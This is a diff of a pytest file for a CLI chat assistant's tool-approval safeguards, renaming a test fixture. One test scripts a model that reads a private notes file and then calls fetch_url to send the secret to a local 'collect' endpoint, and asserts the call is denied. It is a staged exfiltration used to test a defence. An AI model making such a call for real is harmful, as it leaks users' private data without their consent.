@@ -68,7 +68,7 @@ def test_tools_settings_relax_and_tighten() -> None:
 # -- the exfiltration: files + web, no terminal, no config -----------------------------------
 
 
-def test_private_file_does_not_leave_without_a_question(chat_server, run_chatfn, tmp_path: Path) -> None:
+def test_private_file_does_not_leave_without_a_question(chat_server, invoke_chatfn, tmp_path: Path) -> None:
     work = tmp_path / "project"
     work.mkdir()
     (work / "notes.md").write_text("salary review: exfil-secret-4242\n", encoding="utf-8")
@@ -77,7 +77,7 @@ def test_private_file_does_not_leave_without_a_question(chat_server, run_chatfn,
         tool_calls(("fetch_url", {"url": "http://127.0.0.1:9/collect?d=exfil-secret-4242"})),
         text("Your project looks fine."),
     )
-    result = run_chatfn("chat", "--no-log", "check my project", env={"CHATFN_LOAD_PLUGINS": "files,web"}, cwd=work)
+    result = invoke_chatfn("chat", "--no-log", "check my project", env={"CHATFN_LOAD_PLUGINS": "files,web"}, cwd=work)
     assert result.returncode == 0, result.stderr
     read_result = chat_server.requests[1].messages[-1]["content"]
     assert "exfil-secret-4242" in read_result  # the harmless read ran, without a prompt
@@ -87,9 +87,9 @@ def test_private_file_does_not_leave_without_a_question(chat_server, run_chatfn,
     assert "denied fetch_url" in result.stderr and "private data" in result.stderr
 
 
-def test_tools_call_stays_prompt_free(run_chatfn, tmp_path: Path) -> None:
+def test_tools_call_stays_prompt_free(invoke_chatfn, tmp_path: Path) -> None:
     (tmp_path / "notes.md").write_text("A=1\n", encoding="utf-8")
-    result = run_chatfn("tools", "call", "read_file", "path=notes.md", env={"CHATFN_LOAD_PLUGINS": "files"}, cwd=tmp_path)
+    result = invoke_chatfn("tools", "call", "read_file", "path=notes.md", env={"CHATFN_LOAD_PLUGINS": "files"}, cwd=tmp_path)
     assert result.returncode == 0, result.stderr
     assert "A=1" in result.stdout
 
@@ -149,10 +149,10 @@ def test_prompt_uses_the_terminal_when_stdin_and_stderr_are_redirected(chat_serv
     assert "[y]es" not in (tmp_path / "stderr.log").read_text(encoding="utf-8")
 
 
-def test_piped_stdin_cannot_answer_without_a_terminal(chat_server, run_chatfn, tmp_path: Path) -> None:
+def test_piped_stdin_cannot_answer_without_a_terminal(chat_server, invoke_chatfn, tmp_path: Path) -> None:
     marker = tmp_path / "piped"
     chat_server.script(tool_calls(("run_command", {"command": f"touch {marker}"})), text("done"))
-    result = run_chatfn("chat", "--no-log", "go", input="y\ny\n", env={"CHATFN_LOAD_PLUGINS": "shell"})
+    result = invoke_chatfn("chat", "--no-log", "go", input="y\ny\n", env={"CHATFN_LOAD_PLUGINS": "shell"})
     assert result.returncode == 0, result.stderr
     assert not marker.exists()
     assert "no terminal" in chat_server.requests[1].messages[-1]["content"]
@@ -181,10 +181,10 @@ def test_always_covers_only_what_it_says(chat_server, chatfn_env, tmp_path: Path
 
 
 @pytest.mark.parametrize("flag", ["-y", "--approve"])
-def test_approve_flag_allows_without_a_terminal(chat_server, run_chatfn, tmp_path: Path, flag: str) -> None:
+def test_approve_flag_allows_without_a_terminal(chat_server, invoke_chatfn, tmp_path: Path, flag: str) -> None:
     marker = tmp_path / "flagged"
     chat_server.script(tool_calls(("run_command", {"command": f"touch {marker}"})), text("done"))
-    result = run_chatfn("chat", "--no-log", flag, "go", env={"CHATFN_LOAD_PLUGINS": "shell"})
+    result = invoke_chatfn("chat", "--no-log", flag, "go", env={"CHATFN_LOAD_PLUGINS": "shell"})
     assert result.returncode == 0, result.stderr
     assert marker.exists()
     assert json.dumps("denied") not in chat_server.requests[1].messages[-1]["content"]
